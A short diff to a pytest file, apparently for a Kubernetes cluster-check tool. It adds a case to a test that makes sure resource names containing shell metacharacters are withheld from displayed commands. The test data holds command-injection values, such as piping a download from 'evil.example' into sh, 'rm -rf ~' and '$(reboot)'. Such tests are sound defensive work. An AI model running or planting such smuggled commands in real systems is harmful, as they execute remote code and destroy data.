@@ -586,7 +586,8 @@ class _NaiveCommand(ClusterCheck):
 
 
 @pytest.mark.parametrize("name, shown", [("cart", True), ("x; curl evil.example | sh", False),
-                                         ("x\nrm -rf ~", False), ("$(reboot)", False), ("system:auth-reader", True)])
+                                         ("x\nrm -rf ~", False), ("$(reboot)", False), ("system:auth-reader", True),
+                                         ("--all", False)])
 def test_commands_around_names_with_shell_metacharacters_are_withheld(tmp_path, name, shown):
     dep, _ = f.deployment("cart")
     dep["metadata"]["name"] = name
